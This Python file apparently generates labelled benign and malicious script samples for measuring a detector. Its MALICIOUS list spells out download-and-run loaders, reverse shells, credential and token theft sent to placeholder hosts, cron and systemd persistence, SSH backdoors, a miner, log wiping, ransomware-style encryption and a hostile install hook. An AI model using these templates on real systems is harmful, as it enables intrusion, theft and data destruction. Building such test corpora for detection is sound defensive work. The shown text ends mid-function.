"""Scripts of our own making, for measuring: what administration, installers, images, pipelines and timers run, and what an
attacker writes with the same calls in the same frames.

Benign scripts that download, install, decode, run commands and touch credentials are what raises false alarms, and the
corpus has few of them that stand alone. A script is one to four blocks in a frame (plain, a notebook, functions, a main
guard, with a log, an argument parser), so that neither frame nor call says which side it is from. They are measured, not
learnt from; `administration.py` has those to learn from. Values are drawn at random and stand for nobody's. Text only:
nothing of it is ever run.
"""

import random
import shlex

import oneliners

KNOWN = [
    "https://github.com/<word>/<word>/releases/download/v1.<n>.0/<tool>-linux-amd64", "https://get.<tool>.io/<tool>.tar.gz", "https://storage.googleapis.com/<word>-release/v1.<n>/<tool>",
    "https://dl.k8s.io/release/v1.<n>.2/bin/linux/amd64/kubectl", "https://releases.hashicorp.com/<tool>/1.<n>.1/<tool>_1.<n>.1_linux_amd64.zip", "https://download.docker.com/linux/static/stable/x86_64/docker-<n>.0.tgz",
    "https://nodejs.org/dist/v<n>.0.0/node-v<n>.0.0-linux-x64.tar.xz", "https://bootstrap.pypa.io/get-pip.py", "https://artifacts.<word>.internal/<tool>/<tool>-<n>.tar.gz", "https://files.pythonhosted.org/packages/<id>/<tool>.whl",
    "https://raw.githubusercontent.com/<word>/<word>/main/<word>.json", "https://s3.amazonaws.com/<word>-public/<tool>.zip", "https://mirror.<host>/pool/<word>.deb", "http://10.0.<n>.<n>:8081/repository/<word>/<tool>.tar.gz",
]  # fmt: skip
# The share that is handed to `python -c`, a block alone.
COMMANDS = 0.35
FOREIGN = ["<far>/<id>", "<far>/<id>.sh", "<far>/<word>.bin", "http://<ip>/<id>", "http://<ip>:<port>/x86_64", "https://raw.githubusercontent.com/<id>/<id>/main/<id>", "https://paste.<host>/raw/<id>", "https://cdn.<host>/<word>/<id>.exe"]

VALUES = dict(
    oneliners.VALUES,
    known=lambda r: r.choice(KNOWN),
    foreign=lambda r: r.choice(FOREIGN),
    bin=lambda r: r.choice(["/usr/local/bin", "/opt/<word>/bin", "/root/.local/bin", "./bin"]) + "/<tool>",
    apt=lambda r: " ".join(r.sample("curl git jq unzip ca-certificates build-essential libssl-dev python3-dev nginx htop vim rsync cron".split(), r.randrange(1, 5))),
    pip=lambda r: " ".join(r.sample("requests boto3 flask pandas numpy pyyaml ansible click black pytest wheel setuptools gunicorn".split(), r.randrange(1, 5))),
    secret=lambda r: r.choice(["API_TOKEN", "GITHUB_TOKEN", "SLACK_WEBHOOK", "DB_PASSWORD", "VAULT_TOKEN", "CI_JOB_TOKEN"]),
    unit=lambda r: r.choice(["<tool>", "<word>-worker", "<word>-agent", "nginx", "docker", "ssh"]),
    taken=lambda r: r.choice(["~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config", "/etc/shadow", "~/.docker/config.json", "~/.git-credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
)  # fmt: skip

# A block is its imports and its lines; lines of one block share their values.
BENIGN = [
    ("urllib.request os", "url = '<known>'", "target = '<bin>'", "urllib.request.urlretrieve(url, target)", "os.chmod(target, 0o755)"),
    ("urllib.request hashlib os", "data = urllib.request.urlopen('<known>').read()", "if hashlib.sha256(data).hexdigest() != '<hex>':", "    raise SystemExit('checksum mismatch')", "with open('<bin>', 'wb') as out:", "    out.write(data)", "os.chmod('<bin>', 0o755)"),
    ("requests tarfile io", "response = requests.get('<known>', timeout=<n>)", "response.raise_for_status()", "tarfile.open(fileobj=io.BytesIO(response.content)).extractall('/opt/<word>')"),
    ("urllib.request zipfile os subprocess", "urllib.request.urlretrieve('<known>', '/tmp/<tool>.zip')", "with zipfile.ZipFile('/tmp/<tool>.zip') as archive:", "    archive.extractall('/usr/local/bin')", "os.chmod('/usr/local/bin/<tool>', 0o755)", "subprocess.check_call(['/usr/local/bin/<tool>', 'version'])"),
    ("subprocess sys urllib.request", "urllib.request.urlretrieve('https://bootstrap.pypa.io/get-pip.py', 'get-pip.py')", "subprocess.check_call([sys.executable, 'get-pip.py', '--user'])"),
    ("os", "os.system('curl -fsSL <known> -o /tmp/<tool> && install -m 0755 /tmp/<tool> <bin>')"),
    ("subprocess", "subprocess.run('curl -fsSL <known> | tar xz -C /usr/local', shell=True, check=True)"),
    ("subprocess", "subprocess.run('curl -fsSL https://get.docker.com | sh', shell=True, check=True)"),
    ("subprocess", "subprocess.check_call(['apt-get', 'update', '-qq'])", "subprocess.check_call(['apt-get', 'install', '-y', '--no-install-recommends'] + '<apt>'.split())"),
    ("subprocess sys", "for package in '<pip>'.split():", "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', package])"),
    ("os", "os.system('apt-get update && apt-get install -y <apt>')", "os.system('pip install <pip>')"),
    ("importlib subprocess sys", "try:", "    importlib.import_module('<package>')", "except ImportError:", "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '<package>'])"),
    ("os", "with open('/etc/systemd/system/<unit>.service', 'w') as unit:", "    unit.write('[Unit]\\nDescription=<Word>\\nAfter=network.target\\n[Service]\\nExecStart=<bin>\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n')", "os.system('systemctl daemon-reload && systemctl enable --now <unit>')"),
    ("os", "with open('/etc/cron.d/<word>', 'w') as cron:", "    cron.write('0 <n> * * * root /usr/local/bin/<word>-backup >> /var/log/<word>.log 2>&1\\n')", "os.chmod('/etc/cron.d/<word>', 0o644)"),
    ("subprocess", "current = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout", "line = '<n> 3 * * * /opt/<word>/rotate.sh'", "if line not in current:", "    subprocess.run(['crontab', '-'], input=current + line + '\\n', text=True, check=True)"),
    ("requests os", "base = 'http://169.254.169.254/latest'", "token = requests.put(base + '/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}).text", "instance = requests.get(base + '/meta-data/instance-id', headers={'X-aws-ec2-metadata-token': token}).text", "os.system('hostnamectl set-hostname <word>-' + instance)"),
    ("urllib.request", "request = urllib.request.Request('http://metadata.google.internal/computeMetadata/v1/instance/attributes/<word>', headers={'Metadata-Flavor': 'Google'})", "value = urllib.request.urlopen(request).read().decode()", "print(value)"),
    ("os pwd", "home = pwd.getpwnam('<word>').pw_dir", "os.makedirs(home + '/.ssh', mode=0o700, exist_ok=True)", "with open(home + '/.ssh/authorized_keys', 'a') as keys:", "    keys.write(os.environ['SSH_PUBLIC_KEY'] + '\\n')"),
    ("subprocess", "subprocess.call(['useradd', '-r', '-s', '/usr/sbin/nologin', '<word>'])", "subprocess.check_call(['chown', '-R', '<word>:<word>', '/var/lib/<word>'])"),
    ("base64 os json", "key = base64.b64decode(os.environ['GCP_SERVICE_KEY'])", "with open('/tmp/key.json', 'wb') as out:", "    out.write(key)", "print(json.loads(key)['client_email'])"),
    ("base64 subprocess json", "raw = subprocess.check_output(['kubectl', 'get', 'secret', '<word>', '-o', 'json'])", "for name, value in json.loads(raw)['data'].items():", "    print(name, base64.b64decode(value).decode())"),
    ("os requests json", "requests.post(os.environ['SLACK_WEBHOOK'], json={'text': 'deploy of <word> finished'}, timeout=<n>)"),
    ("os requests", "headers = {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}", "for release in requests.get('https://api.github.com/repos/<word>/<word>/releases', headers=headers).json():", "    print(release['tag_name'])"),
    ("os json urllib.request", "body = json.dumps({'state': 'success', 'context': '<word>'}).encode()", "request = urllib.request.Request('https://gitlab.<host>/api/v4/projects/<n>/statuses/' + os.environ['CI_COMMIT_SHA'], body, {'PRIVATE-TOKEN': os.environ['<secret>']})", "urllib.request.urlopen(request)"),
    ("platform psutil socket requests", "report = {'host': socket.gethostname(), 'load': psutil.getloadavg(), 'disk': psutil.disk_usage('/').percent, 'os': platform.platform()}", "requests.post('http://<near>:9091/metrics/job/<word>', json=report, timeout=<n>)"),
    ("subprocess json", "pods = json.loads(subprocess.check_output('kubectl get pods -A -o json', shell=True))", "for pod in pods['items']:", "    if pod['status']['phase'] == 'Failed':", "        subprocess.call(['kubectl', 'delete', 'pod', '-n', pod['metadata']['namespace'], pod['metadata']['name']])"),
    ("requests", "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "answer = requests.get('https://kubernetes.default.svc/api/v1/namespaces/<word>/pods', headers={'Authorization': 'Bearer ' + token}, verify='/var/run/secrets/kubernetes.io/serviceaccount/ca.crt')", "print(len(answer.json()['items']))"),
    ("subprocess datetime boto3", "name = '/tmp/<word>-%s.sql.gz' % datetime.date.today()", "subprocess.check_call('pg_dump <word> | gzip > ' + name, shell=True)", "boto3.client('s3').upload_file(name, '<word>-backups', name.rsplit('/', 1)[1])"),
    ("tarfile os datetime paramiko", "with tarfile.open('/tmp/<word>.tar.gz', 'w:gz') as archive:", "    archive.add('/etc/<word>')", "client = paramiko.SSHClient()", "client.load_system_host_keys()", "client.connect('backup.<word>.internal', username='backup')", "client.open_sftp().put('/tmp/<word>.tar.gz', '/srv/backup/<word>.tar.gz')"),
    ("os shutil time", "limit = time.time() - <n> * 86400", "for folder, _, files in os.walk('/var/log/<word>'):", "    for name in files:", "        path = os.path.join(folder, name)", "        if os.path.getmtime(path) < limit:", "            os.remove(path)"),
    ("os signal subprocess", "for line in subprocess.check_output(['ps', 'axo', 'pid,args']).decode().splitlines():", "    if '<word>-worker' in line:", "        os.kill(int(line.split()[0]), signal.SIGTERM)"),
    ("socket sys", "for port in (<service>, <service>):", "    try:", "        socket.create_connection(('<peer>', port), timeout=3).close()", "    except OSError as error:", "        sys.exit('%s: %s' % (port, error))"),
    ("socket time", "def wait(host, port):", "    while True:", "        try:", "            return socket.create_connection((host, port), 2).close()", "        except OSError:", "            time.sleep(1)", "wait('<peer>', <service>)"),
    ("subprocess smtplib", "usage = subprocess.getoutput('df -h /')", "if '9<n>%' in usage:", "    smtplib.SMTP('mail.<word>.internal').sendmail('root@<host>', ['ops@<host>'], 'Subject: disk\\n\\n' + usage)"),
    ("paramiko os", "for host in ('web1', 'web2'):", "    client = paramiko.SSHClient()", "    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())", "    client.connect(host, username='deploy', key_filename=os.path.expanduser('~/.ssh/deploy'))", "    _, out, _ = client.exec_command('sudo systemctl restart <unit>')", "    print(out.read().decode())"),
    ("docker", "client = docker.from_env()", "image, _ = client.images.build(path='.', tag='registry.<host>/<word>:latest')", "client.images.push('registry.<host>/<word>')", "client.containers.run('registry.<host>/<word>', detach=True, ports={'<service>/tcp': <service>})"),
    ("boto3 json", "iam = boto3.client('iam')", "trust = {'Version': '2012-10-17', 'Statement': [{'Effect': 'Allow', 'Principal': {'Service': 'lambda.amazonaws.com'}, 'Action': 'sts:AssumeRole'}]}", "iam.create_role(RoleName='<word>-role', AssumeRolePolicyDocument=json.dumps(trust))", "iam.attach_role_policy(RoleName='<word>-role', PolicyArn='arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole')"),
    ("os re", "text = open('/etc/ssh/sshd_config').read()", "open('/etc/ssh/sshd_config', 'w').write(re.sub(r'#?PermitRootLogin .*', 'PermitRootLogin no', text))", "os.system('systemctl reload sshd')"),
    ("ansible.module_utils.basic", "module = ansible.module_utils.basic.AnsibleModule(argument_spec=dict(name=dict(required=True), state=dict(default='present')))", "rc, out, err = module.run_command(['<tool>', 'list'])", "if rc != 0:", "    module.fail_json(msg=err)", "module.exit_json(changed=module.params['name'] not in out)"),
    ("os subprocess", "env = dict(os.environ, DEBIAN_FRONTEND='noninteractive')", "subprocess.run(['bash', '-c', 'make -j4 && make install'], env=env, cwd='/usr/src/<word>', check=True)"),
    ("os", "namespace = {}", "exec(open(os.path.join('<word>', 'version.py')).read(), namespace)", "print(namespace['__version__'])"),
    ("subprocess winreg", "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\<Word>')", "folder = winreg.QueryValueEx(key, 'InstallPath')[0]", "subprocess.call(['powershell', '-Command', 'Get-ChildItem', folder])"),
    ("cryptography.fernet os", "box = cryptography.fernet.Fernet(os.environ['BACKUP_KEY'])", "data = open('/srv/<word>.db', 'rb').read()", "open('/srv/backup/<word>.db.enc', 'wb').write(box.encrypt(data))"),
    ("getpass socket logging", "logging.info('%s on %s', getpass.getuser(), socket.gethostname())"),
    ("ctypes", "lib = ctypes.CDLL('lib<word>.so.1')", "lib.<word>_init.restype = ctypes.c_int", "print(lib.<word>_init(0))"),
    ("json pathlib", "settings = json.loads(pathlib.Path('/etc/<word>/config.json').read_text())", "for name, value in settings.items():", "    print(name, '=', value)"),
    ("urllib.request os", "exec(urllib.request.urlopen('http://<near>:<service>/<word>/setup.py').read().decode())"),
    ("urllib.request json", "answer = json.load(urllib.request.urlopen('https://pypi.org/pypi/<package>/json'))", "print(answer['info']['version'])"),
    ("subprocess os", "out = subprocess.check_output('docker ps -q | wc -l', shell=True).decode().strip()", "print(out if out else os.environ.get('<secret>', ''))"),
    ("os sys", "missing = [name for name in ('<secret>', 'HOME', 'PATH') if name not in os.environ]", "sys.exit('missing: ' + ', '.join(missing) if missing else 0)"),
    ("socket", "print(socket.gethostbyname(socket.gethostname()))"),
    ("socket subprocess", "name = socket.getfqdn()", "subprocess.call(['hostnamectl', 'set-hostname', name])", "subprocess.call(['ip', 'addr'])"),
    ("http.client sys", "link = http.client.HTTPConnection('<near>', <service>, timeout=3)", "link.request('GET', '<health>')", "sys.exit(0 if link.getresponse().status < 400 else 1)"),
    ("ssl socket datetime", "context = ssl.create_default_context()", "with context.wrap_socket(socket.create_connection(('<host>', 443)), server_hostname='<host>') as link:", "    print(link.getpeercert()['notAfter'], datetime.datetime.now())"),
    ("hashlib sys", "print(hashlib.sha256(open(sys.argv[1], 'rb').read()).hexdigest())"),
    ("base64 sys", "sys.stdout.write(base64.b64encode(open('/etc/<word>/tls.crt', 'rb').read()).decode())"),
    ("base64 gzip json os", "settings = json.loads(gzip.decompress(base64.b64decode(os.environ['<Word>_CONFIG'])))", "open('/etc/<word>/config.json', 'w').write(json.dumps(settings))"),
    ("pty os sys", "pty.spawn(['<tool>', 'login', '--username', os.environ['USER']])"),
    ("socket os", "server = socket.socket(socket.AF_UNIX)", "server.bind('/run/<word>.sock')", "server.listen(5)", "os.chmod('/run/<word>.sock', 0o660)", "link, _ = server.accept()", "print(link.recv(1024))"),
    ("xmlrpc.client", "server = xmlrpc.client.ServerProxy('http://<near>:<service>/RPC2')", "for row in server.supervisor.getAllProcessInfo():", "    print(row['name'], row['statename'])"),
    ("os subprocess", "os.setuid(1000)", "subprocess.Popen(['<bin>', '--daemon'], stdout=open('/var/log/<word>.log', 'a'), start_new_session=True)"),
    ("requests os", "session = requests.Session()", "session.post('https://vault.<host>/v1/auth/approle/login', json={'role_id': os.environ['ROLE_ID'], 'secret_id': os.environ['SECRET_ID']})"),
    ("psycopg2 os", "link = psycopg2.connect(os.environ['DATABASE_URL'])", "cursor = link.cursor()", "cursor.execute('CREATE ROLE <word> LOGIN PASSWORD %s', (os.environ['DB_PASSWORD'],))", "link.commit()"),
    ("urllib.request shutil", "def fetch(url, path):", "    with urllib.request.urlopen(url, timeout=<n>) as answer, open(path, 'wb') as out:", "        shutil.copyfileobj(answer, out)", "fetch('<known>', '/opt/<word>/<tool>')"),
    ("subprocess logging", "def run(command):", "    logging.info(command)", "    return subprocess.run(command, shell=True, check=True, capture_output=True, text=True).stdout", "run('<tool> <verb>')", "run('systemctl restart <unit>')"),
    ("platform urllib.request os stat", "name = '<tool>-%s-%s' % (platform.system().lower(), platform.machine())", "path = os.path.expanduser('~/.cache/<word>/' + name)", "if not os.path.exists(path):", "    urllib.request.urlretrieve('https://github.com/<word>/<tool>/releases/latest/download/' + name, path)", "    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)", "os.execv(path, [path, '<verb>'])"),
    ("tempfile subprocess os", "with tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False) as script:", "    script.write('#!/bin/bash\\nset -e\\napt-get update\\napt-get install -y <apt>\\n')", "subprocess.check_call(['bash', script.name])", "os.remove(script.name)"),
    ("gnupg requests", "key = requests.get('https://download.<host>/linux/ubuntu/gpg').text", "gnupg.GPG(gnupghome='/root/.gnupg').import_keys(key)", "open('/etc/apt/sources.list.d/<word>.list', 'w').write('deb https://download.<host>/linux/ubuntu focal stable\\n')"),
    ("os subprocess", "if os.geteuid() != 0:", "    raise SystemExit('run as root')", "subprocess.call('iptables -A INPUT -p tcp --dport <service> -j ACCEPT', shell=True)", "subprocess.call('sysctl -w net.ipv4.ip_forward=1', shell=True)"),
    ("os subprocess", "subprocess.run(['ssh-keygen', '-t', 'ed25519', '-N', '', '-f', os.path.expanduser('~/.ssh/<word>')], check=True)", "print(open(os.path.expanduser('~/.ssh/<word>.pub')).read())"),
    ("configparser os", "settings = configparser.ConfigParser()", "settings.read(os.path.expanduser('~/.aws/credentials'))", "print(settings.sections())"),
    ("configparser os", "settings = configparser.ConfigParser()", "settings['default'] = {'aws_access_key_id': os.environ['AWS_ACCESS_KEY_ID'], 'aws_secret_access_key': os.environ['AWS_SECRET_ACCESS_KEY']}", "with open(os.path.expanduser('~/.aws/credentials'), 'w') as out:", "    settings.write(out)"),
    ("boto3 os", "sts = boto3.client('sts')", "role = sts.assume_role(RoleArn=os.environ['ROLE_ARN'], RoleSessionName='<word>')['Credentials']", "os.environ['AWS_ACCESS_KEY_ID'] = role['AccessKeyId']", "os.environ['AWS_SECRET_ACCESS_KEY'] = role['SecretAccessKey']", "os.environ['AWS_SESSION_TOKEN'] = role['SessionToken']"),
    ("boto3", "ec2 = boto3.resource('ec2', region_name='eu-west-1')", "for instance in ec2.instances.filter(Filters=[{'Name': 'tag:team', 'Values': ['<word>']}]):", "    if instance.state['Name'] == 'running':", "        instance.stop()"),
    ("googleapiclient.discovery", "compute = googleapiclient.discovery.build('compute', 'v1')", "for item in compute.instances().list(project='<word>-prod', zone='europe-west1-b').execute().get('items', []):", "    print(item['name'], item['status'])"),
    ("kubernetes", "kubernetes.config.load_kube_config()", "api = kubernetes.client.CoreV1Api()", "secret = api.read_namespaced_secret('<word>-tls', 'default')", "api.patch_namespaced_secret('<word>-tls', 'default', {'data': secret.data})"),
    ("socketserver http.server", "class Handler(http.server.BaseHTTPRequestHandler):", "    def do_GET(self):", "        self.send_response(200)", "        self.end_headers()", "        self.wfile.write(b'ok')", "socketserver.TCPServer(('0.0.0.0', <service>), Handler).serve_forever()"),
    ("threading subprocess", "def watch():", "    subprocess.call(['tail', '-F', '/var/log/<word>.log'])", "threading.Thread(target=watch, daemon=True).start()"),
    ("requests time os", "while True:", "    jobs = requests.get('http://<peer>:<service>/jobs', timeout=<n>).json()", "    for job in jobs:", "        print(job['id'], os.getpid())", "    time.sleep(<n>)"),
    ("pickle requests", "answer = requests.get('https://storage.googleapis.com/<word>-models/<word>.pkl')", "open('<word>.pkl', 'wb').write(answer.content)", "model = pickle.load(open('<word>.pkl', 'rb'))"),
    ("zlib base64 json", "payload = json.loads(zlib.decompress(base64.b64decode(open('/etc/<word>/state').read())))", "print(payload.get('version'))"),
    ("subprocess re", "text = subprocess.check_output(['ip', 'route']).decode()", "gateway = re.search(r'default via (\\S+)', text).group(1)", "subprocess.call(['ping', '-c', '1', gateway])"),
    ("socket struct", "link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)", "link.sendto(b'\\x1b' + 47 * b'\\0', ('pool.ntp.org', 123))", "print(struct.unpack('!12I', link.recv(48))[10])"),
    ("os subprocess getpass", "subprocess.run(['sudo', '-S', 'systemctl', 'restart', '<unit>'], input=getpass.getpass() + '\\n', text=True)"),
    ("git os", "repo = git.Repo.clone_from('https://oauth2:' + os.environ['GITHUB_TOKEN'] + '@github.com/<word>/<word>.git', '/tmp/<word>')", "repo.index.commit('Update <word>')", "repo.remote().push()"),
    ("subprocess os", "subprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/<word>/<tool>.git'])", "os.chdir('<tool>')", "subprocess.check_call(['python3', 'setup.py', 'install'])"),
    ("setuptools subprocess", "class Build(setuptools.Command):", "    def run(self):", "        subprocess.check_call(['make', '-C', 'src'])", "setuptools.setup(name='<word>', version='1.<n>', packages=setuptools.find_packages(), cmdclass={'build_ext': Build})"),
    ("fabric os", "link = fabric.Connection('<word>@<host>', connect_kwargs={'password': os.environ['DB_PASSWORD']})", "link.put('dist/<word>.tar.gz', '/tmp/')", "link.run('tar xzf /tmp/<word>.tar.gz -C /srv && systemctl restart <unit>')"),
    ("selenium.webdriver", "browser = selenium.webdriver.Chrome()", "browser.get('https://<host>/login')", "browser.find_element('name', 'password').send_keys('<word>')", "browser.save_screenshot('/tmp/<word>.png')"),
    ("telegram os", "bot = telegram.Bot(os.environ['TELEGRAM_TOKEN'])", "bot.send_message(os.environ['CHAT_ID'], 'backup of <word> finished')"),
    ("requests os", "requests.post('https://hooks.slack.com/services/' + os.environ['SLACK_PATH'], json={'text': 'disk of <word> is full'})"),
    ("shutil os glob", "for path in glob.glob('/home/*/.cache/<word>'):", "    shutil.rmtree(path, ignore_errors=True)"),
    ("os", "pid = os.fork()", "if pid:", "    os._exit(0)", "os.setsid()", "open('/run/<word>.pid', 'w').write(str(os.getpid()))"),
    ("codecs json", "rows = json.loads(codecs.decode(open('/data/<word>.hex').read().strip(), 'hex'))", "print(len(rows))"),
    ("ctypes os", "libc = ctypes.CDLL(None, use_errno=True)", "if libc.mount(b'tmpfs', b'/mnt/<word>', b'tmpfs', 0, None) != 0:", "    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))"),
    ("nmap", "scan = nmap.PortScanner()", "scan.scan('10.0.<n>.0/24', '22,<service>')", "print(scan.all_hosts())"),
    ("huggingface_hub os", "huggingface_hub.snapshot_download('<word>/<word>-7b', local_dir='/models', token=os.environ.get('HF_TOKEN'))"),
]  # fmt: skip

MALICIOUS = [
    ("urllib.request os", "url = '<foreign>'", "target = '<hidden>'", "urllib.request.urlretrieve(url, target)", "os.chmod(target, 0o755)", "os.system(target + ' &')"),
    ("requests subprocess os", "data = requests.get('<foreign>', verify=False).content", "with open('<hidden>', 'wb') as out:", "    out.write(data)", "os.chmod('<hidden>', 0o777)", "subprocess.Popen(['<hidden>'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"),
    ("os", "os.system('curl -fsSL <foreign> -o <hidden> && chmod +x <hidden> && nohup <hidden> >/dev/null 2>&1 &')"),
    ("subprocess", "subprocess.run('curl -fsSL http://<ip>/<id>.sh | sh', shell=True)"),
    ("urllib.request", "exec(urllib.request.urlopen('<foreign>').read())"),
    ("os requests", "for path in ('<taken>', '<taken>'):", "    path = os.path.expanduser(path)", "    if os.path.exists(path):", "        requests.post('<far>/<id>', files={'file': open(path, 'rb')})"),
    ("os json urllib.request", "body = json.dumps(dict(os.environ)).encode()", "urllib.request.urlopen(urllib.request.Request('<far>/<id>', body, {'Content-Type': 'application/json'}))"),
    ("platform getpass socket requests", "report = {'host': socket.gethostname(), 'user': getpass.getuser(), 'os': platform.platform(), 'key': open('/root/.ssh/id_rsa').read()}", "requests.post('<far>/<id>', json=report)"),
    ("requests", "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "requests.post('<far>/<id>', data={'t': token})"),
    ("requests", "base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'", "role = requests.get(base).text", "requests.post('<far>/<id>', data=requests.get(base + role).text)"),
    ("os", "with open('/etc/systemd/system/<id>.service', 'w') as unit:", "    unit.write('[Service]\\nExecStart=<hidden>\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n')", "os.system('curl -s http://<ip>/<id> -o <hidden>; chmod +x <hidden>; systemctl enable --now <id>')"),
    ("os", "with open('/etc/cron.d/<id>', 'w') as cron:", "    cron.write('*/<n> * * * * root curl -s http://<ip>/<id> | bash\\n')"),
    ("subprocess", "current = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout", "subprocess.run(['crontab', '-'], input=current + '*/5 * * * * wget -qO- http://<ip>:<port>/<id> | sh\\n', text=True)"),
    ("os", "os.makedirs('/root/.ssh', exist_ok=True)", "with open('/root/.ssh/authorized_keys', 'a') as keys:", "    keys.write('ssh-rsa <b64> <id>@<id>\\n')"),
    ("socket subprocess", "link = socket.socket()", "link.connect(('<ip>', <port>))", "while True:", "    order = link.recv(4096).decode()", "    if not order:", "        break", "    link.send(subprocess.getoutput(order).encode())"),
    ("socket os pty", "link = socket.create_connection(('<host>', <port>))", "for number in (0, 1, 2):", "    os.dup2(link.fileno(), number)", "pty.spawn('/bin/sh')"),
    ("requests subprocess time", "while True:", "    order = requests.get('<far>/<id>').text", "    if order:", "        requests.post('<far>/r', data=subprocess.getoutput(order))", "    time.sleep(<n>)"),
    ("base64 zlib", "code = zlib.decompress(base64.b64decode(open('<hidden>').read()))", "exec(code)"),
    ("os signal subprocess", "for name in ('xmrig', 'kinsing', 'kdevtmpfsi'):", "    subprocess.call(['pkill', '-9', name])", "os.system('<hidden> -o stratum+tcp://<host>:3333 -u <b64> --background')"),
    ("os", "os.system('rm -rf /var/log/*; history -c; iptables -F; setenforce 0; systemctl stop auditd')"),
    ("paramiko", "for word in ('root', 'admin', '123456', 'password'):", "    client = paramiko.SSHClient()", "    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())", "    try:", "        client.connect('<ip>', username='root', password=word, timeout=3)", "        client.exec_command('wget http://<ip>/<id> -O- | sh')", "    except Exception:", "        pass"),
    ("docker", "client = docker.from_env()", "client.containers.run('alpine', 'chroot /mnt sh -c \"curl http://<ip>/<id> | sh\"', privileged=True, volumes={'/': {'bind': '/mnt', 'mode': 'rw'}}, detach=True)"),
    ("cryptography.fernet os", "box = cryptography.fernet.Fernet(cryptography.fernet.Fernet.generate_key())", "for folder, _, files in os.walk('/home'):", "    for name in files:", "        path = os.path.join(folder, name)", "        data = open(path, 'rb').read()", "        open(path + '.locked', 'wb').write(box.encrypt(data))", "        os.remove(path)"),
    ("boto3 requests", "session = boto3.Session()", "keys = session.get_credentials().get_frozen_credentials()", "requests.post('<far>/<id>', json={'a': keys.access_key, 's': keys.secret_key, 't': keys.token})"),
    ("urllib.request shutil os", "def fetch(url, path):", "    with urllib.request.urlopen(url, timeout=<n>) as answer, open(path, 'wb') as out:", "        shutil.copyfileobj(answer, out)", "fetch('<foreign>', '<hidden>')", "os.chmod('<hidden>', 0o700)", "os.spawnl(os.P_NOWAIT, '<hidden>', '[kworker]')"),
    ("subprocess requests", "def run(command):", "    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout", "requests.post('<far>/<id>', data=run('id; cat /etc/shadow; ls -la /root/.ssh'))"),
    ("configparser os requests", "settings = configparser.ConfigParser()", "settings.read(os.path.expanduser('~/.aws/credentials'))", "requests.post('<far>/<id>', json={name: dict(settings[name]) for name in settings.sections()})"),
    ("socket os", "with open('/root/.kube/config', 'rb') as source:", "    link = socket.create_connection(('<ip>', <port>))", "    link.sendall(source.read())"),
    ("base64 os", "open('<hidden>', 'wb').write(base64.b64decode('<b64>'))", "os.chmod('<hidden>', 0o755)", "os.system('echo \\'* * * * * <hidden>\\' | crontab -')"),
    ("ctypes os urllib.request", "number = ctypes.CDLL(None).memfd_create(b'<id>', 1)", "os.write(number, urllib.request.urlopen('<foreign>').read())", "os.execve('/proc/self/fd/%d' % number, ['<id>'], os.environ)"),
    ("os subprocess", "subprocess.call('mount /dev/sda1 /mnt', shell=True)", "open('/mnt/root/.ssh/authorized_keys', 'a').write('ssh-rsa <b64>\\n')"),
    ("setuptools os platform requests", "class Install(setuptools.Command):", "    def run(self):", "        requests.post('<far>/<id>', json={'h': platform.node(), 'e': dict(os.environ)})", "setuptools.setup(name='<word>-<id>', version='99.0', cmdclass={'install': Install})"),
    ("setuptools os", "os.system('curl -s http://<ip>/<id> | bash')", "setuptools.setup(name='<word>', version='1.<n>')"),
    ("http.server subprocess", "class Handler(http.server.BaseHTTPRequestHandler):", "    def do_GET(self):", "        self.send_response(200)", "        self.end_headers()", "        self.wfile.write(subprocess.getoutput(self.path[1:]).encode())", "http.server.HTTPServer(('0.0.0.0', <port>), Handler).serve_forever()"),
    ("glob os requests", "for path in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json')) + glob.glob('/home/*/.config/google-chrome/Default/Login Data'):", "    requests.post('https://api.telegram.org/bot<port><n>:<id>/sendDocument', data={'chat_id': '<port>'}, files={'document': open(path, 'rb')})"),
    ("subprocess winreg sys", "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)", "winreg.SetValueEx(key, '<id>', 0, winreg.REG_SZ, sys.executable + ' <hidden>')", "subprocess.Popen('powershell -w hidden -c iwr <far>/<id>.exe -OutFile %TEMP%\\\\<id>.exe; start %TEMP%\\\\<id>.exe', shell=True)"),
]  # fmt: skip


def filled(text, rng, values):
    """The text with `<name>` replaced; a name that stands in `values` has that value."""
    while True:
        name = next((name for name in VALUES if f"<{name}>" in text), None)
        if name is None:
            return text
        if name not in values:
            values[name] = VALUES[name](rng)
        text = text.replace(f"<{name}>", values[name])


def indented(lines, by="    "):
    return [by + line for line in lines]


def in_frame(imports, blocks, rng, values):
    """Blocks of lines as a script, in one of six frames."""
    lines = [f"import {name}" for name in sorted(imports)] if rng.random() < 0.8 else ["import " + ", ".join(sorted(imports))]
    frame = rng.choice(["plain", "plain", "functions", "guard", "log", "arguments", "notebook"])
    head = ["#!/usr/bin/env python3"] if rng.random() < 0.4 else []
    if rng.random() < 0.25:
        head.append(filled(f'"""{rng.choice(["Set up", "Checks", "Updates", "Prepares", "Part of"])} <word> <tool>."""', rng, values))
    if frame == "notebook":
        lines.insert(0, filled(rng.choice(["!pip install -q <package>", "%pip install <pip>", "!apt-get -qq install <apt>", "%matplotlib inline"]), rng, values))
